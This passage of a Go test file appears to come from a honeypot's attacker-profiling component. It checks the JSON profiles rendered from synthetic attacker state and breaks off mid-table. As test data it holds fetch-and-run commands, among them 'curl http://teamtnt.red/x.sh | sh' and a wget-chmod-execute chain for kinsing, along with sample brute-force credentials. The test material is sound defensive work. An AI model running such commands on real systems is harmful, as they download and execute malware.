package profile

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"dossier/correlate/event"
	"dossier/correlate/law"
	"dossier/correlate/state"
	"dossier/profile/enrich"
	"dossier/profile/rules"

	"github.com/maxmind/mmdbwriter"
	"github.com/maxmind/mmdbwriter/mmdbtype"
)

// The tests of this file give every figure of every document a value of its
// own and say where it must stand. What a field shows is written down here by
// hand: neither fields.go nor a recorded file can put it right.

// figuresDay is the day on which everything in this file happens.
var figuresDay = time.Date(2026, 3, 4, 0, 0, 0, 0, time.UTC)

// moment is n seconds after midnight.
func moment(n int64) event.Time { return event.FromTime(figuresDay) + event.Time(n)*second }

// clock is how a document shows moment(n).
func clock(n int64) string {
	return figuresDay.Add(time.Duration(n) * time.Second).Format(`"2006-01-02T15:04:05.000000Z"`)
}

// large is a limit that nothing here reaches.
var large = law.Limit{Keys: 1 << 20, Note: 1 << 10}

// times adds up seconds between events.
func times(start event.Time, intervals ...float64) (t law.Times) {
	t.Add(start, 1<<10)
	for _, s := range intervals {
		start += event.Time(s * 1e6)
		t.Add(start, 1<<10)
	}
	return t
}

// uneven are the intervals of "uniform 27" in behavior/testdata/beacon.json,
// whose scores are RITA's: 0.233, 0.923 and 0.916. Two events of one second lie
// half a second apart, which RITA doesn't see. The statistics below are those
// of Python's statistics.fmean, median and pstdev.
var uneven = []float64{
	9, 7, 8, 2, 0.5, 14.5, 5, 5, 12, 2, 4, 1, 8, 418, 377, 545, 92, 720, 838, 235, 1639, 2157, 1339, 6, 513, 1133, 7077, 1607,
	2728, 2982, 3708, 5772, 2211, 10565, 2802, 11064, 771, 10892, 6868,
}

// fingerprintOf are the fingerprints of the numbered attacker, of every kind
// that has a flat list and one that has none.
var fingerprintOf = []struct{ kind, value string }{
	{"ja3", "v-ja3"},
	{"ja3s", "v-ja3s"},
	{"ja4", "v-ja4"},
	{"ja4s", "v-ja4s"},
	{"ja4h", "v-ja4h"},
	{"ja4_quic", "v-ja4-quic"},
	{"hassh", "v-hassh"},
	{"jarm", "v-jarm"},
	{"http_useragent", "v-agent"},
	{"ssh_client_banner", "v-banner"},
	{"tls_certificate", strings.Repeat("ce", 32)},
	{"tls_certificate", "CN=short"},
	{"tcpfp", "v-tcp"},
}

// indicatorOf has a value of each kind of indicator.
var indicatorOf = [...]string{"http://203.0.113.9:81/x", "evil.example", "203.0.113.9", "s256", "s1", "m5", "me@evil.example", "44wallet", "mdrfckr"}

// numbered returns the state of an attacker in which every figure, time and
// entry has a value of its own.
func numbered() *state.Attacker {
	a, s := new(event.Arena), new(state.Attacker)
	s.First, s.Last = moment(1), moment(999)
	s.Events, s.Kinds = 1001, [3]int64{event.Noise: 1002, event.Scan: 1003, event.Interaction: 1004}
	s.CommandCount, s.FirstCommand = 1005, moment(44)
	s.Unnamed.Guessed = 1013
	s.Attempts, s.Successes, s.FirstSuccess = 1006, 1007, moment(40)
	s.LongestSession, s.Large, s.Retransmits = 1_008_009, 1010, 1011
	s.Recon, s.Exfil, s.Handshake = moment(20), moment(33)+250_000, true
	for _, e := range []law.Entry{
		{Key: "ftp", Count: 2, First: moment(1), Last: moment(2), Rank: uint8(event.Noise)},
		{Key: "http", Count: 3, First: moment(3), Last: moment(4), Rank: uint8(event.Scan)},
		{Key: "smtp", Count: 4, First: moment(5), Last: moment(6), Rank: uint8(event.Interaction)},
		{Key: "ssh", Count: 5, First: moment(7), Last: moment(8), Rank: uint8(event.Interaction)},
		{Key: "telnet", Count: 6, First: moment(9), Last: moment(10), Rank: uint8(event.Scan)},
	} {
		s.Services.Add(e, large)
	}
	for _, e := range []law.Entry{
		{Key: "delta", Count: 21, First: moment(2), Last: moment(60) + 234_567},
		{Key: "alpha", Count: 22, First: moment(6), Last: moment(61)},
		{Key: "charlie", Count: 23, First: moment(12), Last: moment(62)},
		{Key: "bravo", Count: 24, First: moment(18), Last: moment(63)},
	} {
		s.Deckies.Add(e, large)
	}
	for i, p := range []struct {
		transport event.Transport
		number    uint16
	}{{event.TCP, 22}, {event.UDP, 161}, {event.NoTransport, 8}, {event.TCP, 9999}} {
		s.Ports.Add(law.Entry{Key: state.PortKey(a, p.transport, p.number), Count: int64(25 + i%3), First: moment(int64(13 + i)), Last: moment(int64(64 + i)), Rank: uint8(1 - i%2)}, state.LimitPorts)
	}
	for _, h := range []law.Item{
		{Time: moment(2), A: "delta", B: "ssh", C: "connect"},
		{Time: moment(4), A: "delta", B: "http", C: "request"},
		{Time: moment(6), A: "alpha", B: "ssh", C: "login"},
		{Time: moment(10), A: "delta", B: "ftp", C: "list"},
		{Time: moment(11), A: "alpha", B: "http", C: "request"},
		{Time: moment(12), A: "charlie"},
		{Time: moment(18), A: "bravo", B: "smtp", C: "rcpt_to"},
	} {
		s.Hops.Add(h, large)
	}
	s.Times = times(1767340802*1e6, uneven...)
	for i := range int64(3) {
		s.Hours.Add(moment(3600*i), 24)
	}
	for _, c := range []law.Item{
		{Time: moment(44), A: "ssh", B: "delta", C: "wget http://198.51.100.7/x"},
		{Time: moment(46), A: "telnet", B: "alpha", C: "id"},
		{Time: moment(50), A: "ssh", B: "bravo", C: "wget http://198.51.100.7/x"},
		{Time: moment(55), C: "uname -a"},
	} {
		s.Commands.Add(c, large)
	}
	login := func(service, principal, kind, secret string, digest byte, outcome event.Outcome, n int64) {
		e := event.Evidence{A: principal, B: kind}
		for i := range e.Digest {
			e.Digest[i] = digest
		}
		s.Credentials.Add(law.Entry{
			Key: state.CredentialKey(a, service, &e), Count: n, First: moment(n), Last: moment(n + 100), Rank: uint8(outcome), Payload: secret,
		}, large)
	}
	login("ssh", "root", "plaintext", "toor", 0xd1, event.Success, 31)
	// Shown where the lists of all are cut: TestWhatMattersIsShownOfFullLists.
	s.Admitted.Add(law.Entry{Key: s.Credentials.Keys()[0], Count: 34, First: moment(34), Last: moment(35), Rank: uint8(event.Success), Payload: "toor"}, large)
	s.Known.Add(law.Entry{Key: "ssh\x00wget http://198.51.100.7/x", Count: 35, First: moment(36), Last: moment(37)}, large)
	login("telnet", "admin", "plaintext", "1234", 0xd2, event.Failure, 32)
	login("", "root", "md5", "hash", 0xd3, event.Unknown, 33)
	for i, f := range fingerprintOf {
		n := int64(300 + i)
		payload := ""
		if f.value == "CN=short" {
			payload = state.EncodeFields(a, []event.Field{{Key: "cert_sha256", Value: "v-cert"}, {Key: "issuer", Value: "CA"}})
		}
		s.Fingerprints.Add(law.Entry{Key: f.kind + "\x00" + f.value, Count: n, First: moment(n), Last: moment(n + 100), Payload: payload}, large)
	}
	file, mail := strings.Repeat("aa", 32), strings.Repeat("bb", 32)
	s.Artifacts.Add(law.Entry{
		Key: file + "\x00http://198.51.100.7/x\x00file", Count: 41, First: moment(41), Last: moment(141),
		Payload: state.EncodeFields(a, []event.Field{{Key: "name", Value: "x"}}),
	}, large)
	s.Artifacts.Add(law.Entry{Key: mail + "\x00\x00mail", Count: 42, First: moment(42), Last: moment(142)}, large)
	for i, kind := range event.IndicatorKinds() {
		n := int64(600 + i)
		s.Indicators.Add(law.Entry{Key: state.IndicatorKey(a, kind, indicatorOf[i]), Count: n, First: moment(n), Last: moment(n + 100), Payload: "command"}, state.LimitIndicators)
	}
	for i := range 13 {
		s.IndicatorCount.Add(fmt.Sprint("thing", i), state.LimitIndicatorCount)
	}
	s.IndicatorCrowd.Chunk[0] = 1 // it decides, and is not shown
	s.Forwards.Add(law.Entry{Key: "direct-tcpip\x00c.example:25", Count: 43, First: moment(43), Last: moment(143)}, large)
	s.Forwards.Add(law.Entry{Key: "http_proxy\x00d.example:443", Count: 44, First: moment(44), Last: moment(144)}, large)
	s.Leaks.Add(law.Entry{Key: "81.2.69.142\x00X-Forwarded-For\x00public", Count: 51, First: moment(51), Last: moment(151)}, large)
	s.Leaks.Add(law.Entry{Key: "127.0.0.1\x00X-Real-IP\x00loopback", Count: 52, First: moment(52), Last: moment(152)}, large)
	for i := range 17 {
		s.Sessions.Add(fmt.Sprint("session", i), state.LimitSessions)
	}
	for i := range 9 {
		s.Domains.Add(fmt.Sprint("domain", i), state.LimitDomains)
	}
	s.Sensors.Add(law.Entry{Key: "sensor-b"}, large)
	s.Sensors.Add(law.Entry{Key: "sensor-a"}, large)
	s.Network.Add(law.Item{Time: -moment(71), A: "2a00:1450:4001::2"}, large)
	s.Network.Add(law.Item{Time: -moment(72), A: "2a00:1450:4001::1"}, large)
	s.SystemGuesses.Add(law.Entry{Key: "linux", Count: 61, First: 1}, large)
	s.SystemGuesses.Add(law.Entry{Key: "windows", Count: 60, First: 1}, large)
	s.TTLs.Add(law.Entry{Key: "120", Count: 62, First: 1}, large)
	s.Distances.Add(law.Entry{Key: "7", Count: 5, First: 1}, large)
	s.Distances.Add(law.Entry{Key: "19", Count: 2, First: 1}, large)
	s.Stack = law.Latest{Time: moment(80), Value: state.EncodeFields(a, []event.Field{
		{Key: "window", Value: "29200"},
		{Key: "wscale", Value: "8"},
		{Key: "mss", Value: "1460"},
		{Key: "tos", Value: "16"},
		{Key: "dscp", Value: "4"},
		{Key: "ecn", Value: "2"},
		{Key: "has_sack", Value: "1"},
		{Key: "has_timestamps", Value: "0"},
		{Key: "options_sig", Value: "M,S,T"},
		{Key: "ipid_class", Value: "stale"},
		{Key: "window", Value: "1"},
	})}
	s.IPIDClass, s.ISNClass = law.Latest{Time: moment(81), Value: "incremental"}, law.Latest{Time: moment(82), Value: "random"}
	s.KexOrders.Add(law.Entry{Key: "kex-b", Count: 65, First: moment(83), Last: moment(84)}, large)
	s.KexOrders.Add(law.Entry{Key: "kex-a", Count: 66, First: moment(85), Last: moment(86)}, large)
	s.Tools.Add(law.Entry{Key: "sqlmap", Count: 67, First: moment(87), Last: moment(88), Payload: "user agent"}, large)
	s.Tools.Add(law.Entry{Key: "paramiko", Count: 68, First: moment(89), Last: moment(90), Payload: "HASSH"}, large)
	s.Techniques.Add(law.Entry{Key: "T1110", Count: 69, First: moment(91), Last: moment(92), Payload: "tries to log in"}, large)
	s.Techniques.Add(law.Entry{Key: "T1105", Count: 70, First: moment(93), Last: moment(94), Payload: "fetches a file"}, large)
	s.Conclusions.Add(law.Entry{Key: "3fetch", Count: 73, First: moment(101), Last: moment(102), Payload: "wget x"}, large)
	s.Conclusions.Add(law.Entry{Key: "3!fetch", Count: 75, First: moment(103), Last: moment(104), Payload: "a?x=wget"}, large)
	s.Conclusions.Add(law.Entry{Key: "1gone", Count: 74, First: moment(99), Last: moment(100), Payload: "GET /"}, large)
	s.Alerts.Add(law.Entry{Key: "ET SCAN\x00Leak", Count: 71, First: moment(95), Last: moment(96), Rank: 255 - 3}, large)
	s.Alerts.Add(law.Entry{Key: "ET EXPLOIT\x00", Count: 72, First: moment(97), Last: moment(98), Rank: 255 - 1}, large)
	// Neither is shown: who crosses lines is asked of the state.
	s.Crowd.Share, s.Transitions = 0.5, []state.Transition{{Action: Observed}}
	return s
}

// claiming adds what is claimed of an attacker, each figure with a value of its
// own, and what decoys did.
func claiming(s *state.Attacker) *state.Attacker {
	a, c := new(event.Arena), &s.Claimed
	c.First, c.Last, c.Events, c.Kinds = moment(1998), moment(1999), 2001, [3]int64{2002, 2003, 2004}
	c.Commands, c.Attempts, c.Successes, c.Large = 2005, 2006, 2007, 2008
	c.Services.Add(law.Entry{Key: "snmp", Count: 2011, First: moment(2011), Last: moment(2111), Rank: uint8(event.Interaction)}, large)
	c.Services.Add(law.Entry{Key: "ssh", Count: 2012, First: moment(2012), Last: moment(2112)}, large)
	c.Deckies.Add(law.Entry{Key: "delta", Count: 2013, First: moment(2013), Last: moment(2113)}, large)
	c.Deckies.Add(law.Entry{Key: "echo", Count: 2014, First: moment(5), Last: moment(2114)}, large)
	// These turned out to be a session's.
	c.Services.Add(law.Entry{Key: "telnet"}, large)
	c.Deckies.Add(law.Entry{Key: "alpha"}, large)
	for i, e := range []struct {
		claim   state.Claim
		rank    uint8
		payload string
	}{
		{state.Claim{Kind: state.ClaimLogin, Service: "snmp", B: "snmp_community", C: strings.Repeat("\xd4", 32)}, uint8(event.Success), "public"},
		{state.Claim{Kind: state.ClaimLogin, A: "root"}, 0, ""},
		{state.Claim{Kind: state.ClaimCommand, Service: "tftp", A: "RRQ x"}, 0, ""},
		{state.Claim{Kind: state.ClaimFingerprint, A: "ja4_quic", B: "q"}, 0, ""},
		{state.Claim{Kind: state.ClaimFile, A: "ff", B: "http://x/", C: "file"}, 0, ""},
		{state.Claim{Kind: state.ClaimLeak, A: "9.9.9.9", B: "XFF", C: "public"}, 0, ""},
		{state.Claim{Kind: state.ClaimAlert, A: "SIG", B: "CAT"}, 255 - 2, ""},
		{state.Claim{Kind: state.ClaimTechnique, A: "T1046"}, 0, "because"},
	} {
		n := int64(2101 + i)
		c.Evidence.Add(law.Entry{Key: e.claim.Key(a), Count: n, First: moment(n), Last: moment(n + 100), Rank: e.rank, Payload: e.payload}, large)
	}
	c.Shell.Add(law.Item{Time: moment(2001), A: "ssh", B: "echo", C: "reboot"}, large)
	c.Shell.Add(law.Item{Time: moment(2002), A: "ssh", B: "delta", C: "halt"}, large)
	c.Shell.Add(law.Item{Time: moment(2003), A: "ssh", B: "delta"}, large)
	// Shown where it is a session's and Shell is cut.
	c.Known.Add(law.Entry{Key: "ssh\x00reboot\x00echo", Count: 2013, First: moment(2013), Last: moment(2113)}, large)
	s.Contacts = state.Contacts{First: moment(0), Last: moment(3), Events: 3009}
	return s
}

// claims is when and how often the n-th claim was seen.
func claims(n int64) string {
	return fmt.Sprintf(`"count":%d,"first_seen":%s,"last_seen":%s`, 2100+n, clock(2100+n), clock(2200+n))
}

// claimingNoise is an address of which there was nothing but packets.
func claimingNoise() *state.Attacker {
	s := new(state.Attacker)
	s.Claimed.Events, s.Claimed.Kinds, s.Claimed.First, s.Claimed.Last = 2, [3]int64{event.Scan: 2}, moment(1), moment(2)
	return s
}

// riskOf returns a file of risk with the built-in bands and these reasons.
func riskOf(reasons string) string {
	return `{"version":2,"stages":[{"stage":"looking","from":20,"to":40,"half_life_days":7},{"stage":"attempting","from":40,"to":60,"half_life_days":14},
		{"stage":"inside","from":60,"to":80,"half_life_days":30},{"stage":"acting","from":80,"to":100,"half_life_days":90}],"earlier_factor":0.25,"lifting_weight":20,
		"severities":{"low":10,"medium":40,"high":50,"critical":75},"harmless":{"network":10,"dns":10,"announced":20,"noise":5},"internal":{"from":45,"to":60},
		"software":{"id":"software","text":"known"},"tactics":[{"tactic":"TA0006","id":"tries","text":"tries to get in"},{"tactic":"TA0011","id":"calls","text":"calls home"}],
		"reasons":[` + reasons + `]}`
}

// figuresRisk is a file of which the score can be worked out by hand: from 60 on
// inside takes 40 % of 20, what was tried before a quarter of 90 % and of 40 % of
// what is left.
var figuresRisk = riskOf(`{"id": "guesses", "fact": "login_attempts", "stage": "attempting", "weight": 90, "text": "tried {n} logins"}`)

// write puts text into a file and returns its path.
func write(t testing.TB, text string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "file.json")
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func rulesWith(t testing.TB, risk string) *rules.Set {
	t.Helper()
	set, err := rules.New(rules.Options{Risk: write(t, risk)})
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// figuresRenderer returns a renderer that knows a place in the south-west, from
// two files, and a name.
func figuresRenderer(t *testing.T) *Renderer {
	t.Helper()
	database := func(kind string, record mmdbtype.Map) string {
		tree, err := mmdbwriter.New(mmdbwriter.Options{DatabaseType: kind})
		if err != nil {
			t.Fatal(err)
		}
		for _, network := range []string{"185.220.0.0/16", "2a00:1450::/32"} {
			if err := tree.Insert(ipNet(netip.MustParsePrefix(network)), record); err != nil {
				t.Fatal(err)
			}
		}
		f, err := os.Create(filepath.Join(t.TempDir(), kind))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if _, err := tree.WriteTo(f); err != nil {
			t.Fatal(err)
		}
		return f.Name()
	}
	files, err := enrich.Open(enrich.Options{
		GeoIP: database("Test-City", mmdbtype.Map{
			"country":  mmdbtype.Map{"iso_code": mmdbtype.String("CL")},
			"location": mmdbtype.Map{"latitude": mmdbtype.Float64(-33.875), "longitude": mmdbtype.Float64(-70.625)},
		}),
		ASN: database("Test-ASN", mmdbtype.Map{
			"autonomous_system_number": mmdbtype.Uint32(64499), "autonomous_system_organization": mmdbtype.String("Example SA"),
		}),
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(files.Close)
	names := enrich.NewNames(enrich.NamesOptions{Resolver: oneName{}})
	t.Cleanup(names.Close)
	for names.Name(someone) == "" || names.Name(networkHead().Addr) == "" {
		time.Sleep(time.Millisecond)
	}
	return renderer(t, Options{
		TLP: "green", Rules: rulesWith(t, figuresRisk), Files: files, Names: names,
		InternalNets: []netip.Prefix{netip.PrefixFrom(someone, 24).Masked()}, InternalHosts: map[netip.Addr]string{someone: "files-1", networkHead().Addr: "none-of-ours"},
	})
}

// A program or group that ATT&CK knows has its id, beside those that have none.
func TestAttackIDs(t *testing.T) {
	known := renderer(t, Options{})
	seen := typing("s1", []float64{0, 1, 1}, "/bin/busybox MIRAI", "wget http://203.0.113.9/kinsing; chmod +x kinsing; ./kinsing", "curl http://teamtnt.red/x.sh | sh")
	doc := decode(t, known.AppendAttacker(nil, headOf(someone), folded(known, seen)))
	for name, want := range map[string]any{
		"threat.software.name": []any{"kinsing", "mirai"}, "threat.software.id": []any{"S0599"}, "threat.group.name": []any{"teamtnt"}, "threat.group.id": []any{"G0139"},
	} {
		if got := at(doc, name); !reflect.DeepEqual(got, want) {
			t.Errorf("%s is %v, want %v", name, got, want)
		}
	}
	ids := map[string]any{}
	for _, e := range at(doc, "behavior.conclusions").([]any) {
		if of := e.(map[string]any); of["software"] != nil {
			ids[of["software"].(string)] = of["software_id"]
		}
	}
	if want := map[string]any{"kinsing": "S0599", "mirai": nil, "teamtnt": "G0139"}; !reflect.DeepEqual(ids, want) {
		t.Errorf("conclusions have the ids %v, want %v", ids, want)
	}
}

// shows checks what a document says against a table of fields, each with its
// value in JSON, and that nothing else is said. It notes in asserted which
// fields the table has.
func shows(t *testing.T, what string, k Kind, doc []byte, want map[string]string, asserted map[Kind]map[string]bool) {
	t.Helper()
	m := decode(t, doc)
	for name, text := range want {
		var value any
		if err := json.Unmarshal([]byte(text), &value); err != nil {
			t.Fatalf("%s: %s: %v", what, name, err)
		}
		if got := at(m, name); !reflect.DeepEqual(got, value) {
			is, _ := json.Marshal(got)
			t.Errorf("%s: %s is\n%s\nwant\n%s", what, name, is, text)
		}
		if value != nil {
			if asserted[k] == nil {
				asserted[k] = map[string]bool{}
			}
			asserted[k][name] = true
		}
	}
	for _, name := range leaves(k, m) {
		if _, ok := want[name]; !ok {
			is, _ := json.Marshal(at(m, name))
			t.Errorf("%s: nothing says what %s must be; it is %s", what, name, is)
		}
	}
}

// with returns a copy of rows with more, or other, ones. A row of "null" says
// that the field is absent.
func with(rows map[string]string, more map[string]string) map[string]string {
	all := map[string]string{}
	maps.Copy(all, rows)
	maps.Copy(all, more)
	return all
}

func seen(count, first, last int64) string {
	return fmt.Sprintf(`"count":%d,"first_seen":%s,"last_seen":%s`, count, clock(first), clock(last))
}

const (
	someoneUUID = `"a7b54897-8812-5e35-b99b-6625c7ee7be6"`
	networkUUID = `"8f05aa11-13c4-5e97-b10c-cf38e518ca40"`
	writtenText = `"2026-01-04T12:00:00.000000Z"`
	location    = `{"lat":-33.875,"lon":-70.625}`
	aScore      = "71.63"
	schemaText  = `2`

	// Halves of SHA-256, by Python's hashlib: of "payload" and the file's
	// digest; of "credentials" and each principal, kind and digest, sorted; of
	// "toolchain", the HASSH and the programs. NUL stands between all of them.
	payloadKey     = "payload:a64825a009f735236ad82026cdf166ea"
	credentialsKey = "credentials:d0acfab56f70a9b59c894be8925f6ff8"
	toolchainKey   = "toolchain:b81b740c0ba2ce246419f9fc58757f93"
)

func attackerRows(r *Renderer) map[string]string {
	var indicators []string
	for i, kind := range event.IndicatorKinds() {
		n := int64(600 + i)
		indicators = append(indicators, fmt.Sprintf(`{"kind":%q,"value":%q,"use":"command","count":%d,"first_seen":%s,"last_seen":%s}`, kind, indicatorOf[i], n, clock(n), clock(n+100)))
	}
	hop := func(n int64, decky, service, kind string) string {
		if service == "" {
			return fmt.Sprintf(`{"timestamp":%s,"decky":%q}`, clock(n), decky)
		}
		return fmt.Sprintf(`{"timestamp":%s,"decky":%q,"service":%q,"event_type":%q}`, clock(n), decky, service, kind)
	}
	edge := func(from, to string, first, count int64) string {
		return fmt.Sprintf(`{"from":%q,"to":%q,"first":%s,"count":%d}`, from, to, clock(first), count)
	}
	dwell := func(decky string, first, last int64, seconds string, events int) string {
		return fmt.Sprintf(`{"decky":%q,"first":%s,"last":%s,"seconds":%s,"events":%d}`, decky, clock(first), clock(last), seconds, events)
	}
	list := func(v ...string) string { return "[" + strings.Join(v, ",") + "]" }
	var fingerprints []string
	for i, f := range fingerprintOf {
		payload := ""
		if f.value == "CN=short" {
			payload = `"payload":{"cert_sha256":"v-cert","issuer":"CA"},`
		}
		n := int64(300 + i)
		fingerprints = append(fingerprints, fmt.Sprintf(`{"type":%q,"value":%q,%s%s}`, f.kind, f.value, payload, seen(n, n, n+100)))
	}
	file, mail := strings.Repeat("aa", 32), strings.Repeat("bb", 32)
	certificate := strings.Repeat("ce", 32)
	digest := func(b string) string { return strings.Repeat(b, 32) }
	return map[string]string{
		"@timestamp": clock(999), "ip": `"185.220.101.4"`, "uuid": someoneUUID, "first_seen": clock(1), "last_seen": clock(999),
		"updated_at": writtenText, "event_count": "1001",
		"services": `["ftp","http","smtp","ssh","telnet"]`, "service_count": "5", "service_guessed": "1013",
		"services_scanned": `["http","telnet"]`, "services_interacted": `["smtp","ssh"]`,
		"ports":      `[{"port":8,"proven":true,"count":27,"first_seen":"2026-03-04T00:00:15.000000Z","last_seen":"2026-03-04T00:01:06.000000Z"},{"transport":"udp","port":161,"proven":false,"count":26,"first_seen":"2026-03-04T00:00:14.000000Z","last_seen":"2026-03-04T00:01:05.000000Z"},{"transport":"tcp","port":22,"proven":true,"count":25,"first_seen":"2026-03-04T00:00:13.000000Z","last_seen":"2026-03-04T00:01:04.000000Z"},{"transport":"tcp","port":9999,"proven":false,"count":25,"first_seen":"2026-03-04T00:00:16.000000Z","last_seen":"2026-03-04T00:01:07.000000Z"}]`,
		"port_count": "4", "port.name": `["8","tcp/22","tcp/9999","udp/161"]`,
		"deckies": `["delta","alpha","charlie","bravo"]`, "decky_count": "4", "is_traversal": "true",
		"traversal_path": `"delta → alpha → charlie → bravo"`,
		"hops": list(hop(2, "delta", "ssh", "connect"), hop(4, "delta", "http", "request"), hop(6, "alpha", "ssh", "login"), hop(10, "delta", "ftp", "list"),
			hop(11, "alpha", "http", "request"), hop(12, "charlie", "", ""), hop(18, "bravo", "smtp", "rcpt_to")),
		"movement.edge":  `["alpha → charlie","alpha → delta","charlie → bravo","delta → alpha"]`,
		"movement.edges": list(edge("delta", "alpha", 6, 2), edge("alpha", "delta", 10, 1), edge("alpha", "charlie", 12, 1), edge("charlie", "bravo", 18, 1)),
		"movement.dwell": list(
			strings.Replace(dwell("delta", 2, 60, "58.235", 21), "01:00.000000", "01:00.234567", 1),
			dwell("alpha", 6, 61, "55", 22), dwell("charlie", 12, 62, "50", 23), dwell("bravo", 18, 63, "45", 24)),
		"commands": list(
			fmt.Sprintf(`{"timestamp":%s,"service":"ssh","decky":"delta","command":"wget http://198.51.100.7/x"}`, clock(44)),
			fmt.Sprintf(`{"timestamp":%s,"service":"telnet","decky":"alpha","command":"id"}`, clock(46)),
			fmt.Sprintf(`{"timestamp":%s,"service":"ssh","decky":"bravo","command":"wget http://198.51.100.7/x"}`, clock(50)),
			fmt.Sprintf(`{"timestamp":%s,"command":"uname -a"}`, clock(55))),
		"command_count": "1005", "command.line": `["wget http://198.51.100.7/x","id","uname -a"]`,
		"credentials": list(
			`{"service":"ssh","principal":"root","secret_kind":"plaintext","secret":"toor","secret_sha256":"`+digest("d1")+`",`+seen(31, 31, 131)+`,"outcome":"success"}`,
			`{"service":"telnet","principal":"admin","secret_kind":"plaintext","secret":"1234","secret_sha256":"`+digest("d2")+`",`+seen(32, 32, 132)+`,"outcome":"failure"}`,
			`{"principal":"root","secret_kind":"md5","secret":"hash","secret_sha256":"`+digest("d3")+`",`+seen(33, 33, 133)+`}`),
		"credential_count": "3", "credential.username": `["admin","root"]`, "credential.password": `["1234","hash","toor"]`,
		"credential.pair": `["admin:1234","root:hash","root:toor"]`,
		"login_attempts":  "1006", "login_successes": "1007",
		"fingerprints": list(fingerprints...), "fingerprint.ja3": `["v-ja3"]`, "fingerprint.ja3s": `["v-ja3s"]`, "fingerprint.ja4": `["v-ja4"]`,
		"fingerprint.ja4s": `["v-ja4s"]`, "fingerprint.ja4h": `["v-ja4h"]`, "fingerprint.ja4_quic": `["v-ja4-quic"]`, "fingerprint.hassh": `["v-hassh"]`,
		"fingerprint.jarm": `["v-jarm"]`, "fingerprint.user_agent": `["v-agent"]`, "fingerprint.ssh_client": `["v-banner"]`,
		"fingerprint.tls_cert_sha256": list(`"`+certificate+`"`, `"v-cert"`),
		"artifacts": list(
			`{"sha256":"`+file+`","url":"http://198.51.100.7/x","kind":"file","payload":{"name":"x"},`+seen(41, 41, 141)+`}`,
			`{"sha256":"`+mail+`","kind":"mail",`+seen(42, 42, 142)+`}`),
		"artifact.sha256": list(`"`+file+`"`, `"`+mail+`"`), "artifact.url": `["http://198.51.100.7/x"]`,
		"indicators": list(indicators...), "indicator_count": "13", "indicator.url": `["http://203.0.113.9:81/x"]`, "indicator.domain": `["evil.example"]`,
		"indicator.ip": `["203.0.113.9"]`, "indicator.sha256": `["s256"]`, "indicator.sha1": `["s1"]`, "indicator.md5": `["m5"]`, "indicator.email": `["me@evil.example"]`,
		"indicator.wallet": `["44wallet"]`, "indicator.key_comment": `["mdrfckr"]`, "forward.target": `["c.example:25","d.example:443"]`, "forward.via": `["direct-tcpip","http_proxy"]`,
		"forwards": `[{"target":"c.example:25","via":"direct-tcpip","count":43,"first_seen":` + clock(43) + `,"last_seen":` + clock(143) + `},` +
			`{"target":"d.example:443","via":"http_proxy","count":44,"first_seen":` + clock(44) + `,"last_seen":` + clock(144) + `}]`,
		"ip_leaks": list(
			`{"claimed_ip":"81.2.69.142","header":"X-Forwarded-For","category":"public","kind":"leak",`+seen(51, 51, 151)+`}`,
			`{"claimed_ip":"127.0.0.1","header":"X-Real-IP","category":"loopback","kind":"spoofed_source",`+seen(52, 52, 152)+`}`),
		"alerts": list(
			`{"signature":"ET SCAN","category":"Leak","severity":3,`+seen(71, 95, 96)+`}`,
			`{"signature":"ET EXPLOIT","severity":1,`+seen(72, 97, 98)+`}`),
		"alert.signature": `["ET EXPLOIT","ET SCAN"]`,
		// 3 credentials, 13 fingerprints, 2 artifacts, 2 claims.
		"bounty_count": "20", "session_count": "17", "session_longest_s": "1008.009",
		"behavior.class": `"slow_scan"`, "behavior.timing.event_count": "40", "behavior.timing.duration_s": "79137",
		"behavior.timing.mean_iat_s": "2029.154", "behavior.timing.median_iat_s": "545", "behavior.timing.stdev_iat_s": "3126.533",
		"behavior.timing.min_iat_s": "0.5", "behavior.timing.max_iat_s": "11064", "behavior.timing.cv": "1.5408",
		"behavior.beacon.score": "0.691", "behavior.beacon.ts_score": "0.233", "behavior.beacon.hist_score": "0.923", "behavior.beacon.dur_score": "0.916",
		"behavior.tools": `["paramiko","sqlmap"]`,
		"behavior.tool_evidence": list(
			`{"tool":"sqlmap","kind":"tool","attack_id":"S0225","by":"user agent","source":"the default user agents in the programs' own sources and documentation",`+seen(67, 87, 88)+`}`,
			`{"tool":"paramiko","kind":"library","by":"HASSH","source":"salesforce/hassh README.md and python/hasshGen/hassh_fingerprints.csv at cf68ec49",`+seen(68, 89, 90)+`}`),
		"rules.version": `"` + r.o.Rules.Version() + `"`, "rules.lists_date": `"` + r.o.Rules.ScannersDate() + `"`,
		"software.library": `["paramiko"]`, "software.tool": `["sqlmap"]`, "threat.software.id": `["S0225"]`, "threat.software.name": `["sqlmap"]`, "threat.software.type": `["Tool"]`,
		"behavior.kind": `"automated_session"`, "behavior.kind_why": `"commands: 1005, none of a person's pauses between them"`,
		"behavior.profile_evidence": `[{"technique":"T1595.001","why":"goes through services in a scanner's time","first_seen":` + clock(1) + `,"last_seen":` + clock(999) + `}]`,
		"behavior.technique_evidence": list(
			`{"technique":"T1110","why":"tries to log in",` + seen(69, 91, 92) + `}`), // what a rule says stands among the conclusions
		"behavior.phase.recon_end_ts": clock(20), "behavior.phase.exfil_start_ts": strings.Replace(clock(33), ".000000", ".250000", 1),
		"behavior.phase.exfil_latency_s": "13.25", "behavior.phase.large_payload_count": "1010",
		"behavior.os_guess": `"linux"`, "behavior.hop_distance": "7",
		"behavior.tcp_fingerprint": `{"window":29200,"wscale":8,"mss":1460,"tos":16,"dscp":4,"ecn":2,"has_sack":true,"has_timestamps":false,` +
			`"options_sig":"M,S,T","ipid_class":"incremental","isn_class":"random"}`,
		"behavior.retransmit_count": "1011", "behavior.kex_order": `["kex-b","kex-a"]`,
		"campaign.keys":        `["` + credentialsKey + `","` + payloadKey + `","` + toolchainKey + `"]`,
		"campaign.payload":     `["` + payloadKey + `"]`,
		"campaign.credentials": `"` + credentialsKey + `"`,
		"campaign.toolchain":   `["` + toolchainKey + `"]`,
		"smtp_domain_count":    "9",
